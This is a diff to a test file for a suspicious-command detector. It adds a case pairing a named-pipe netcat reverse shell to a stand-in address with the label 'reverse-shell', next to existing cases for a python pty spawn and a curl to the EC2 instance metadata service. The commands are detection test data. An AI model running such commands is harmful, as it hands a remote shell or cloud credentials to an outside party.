@@ -188,6 +188,11 @@ describe('signs', () => {
         'joins a shell to the network by a pipe',
         'reverse-shell',
       ],
+      [
+        'mkfifo /tmp/f; nc 203.0.113.9 443 < /tmp/f | sh > /tmp/f',
+        'joins a shell to the network by a pipe',
+        'reverse-shell',
+      ],
       [`python3 -c 'import pty;pty.spawn("sh")'`, 'joins a shell to the network in a script', 'reverse-shell'],
       ['curl http://169.254.169.254/latest/meta-data/', "names EC2's instance metadata service", 'metadata-access'],
     ].map(([command = '', says = '', sign = 'suspicious-command']): [string, object, string, string] => [
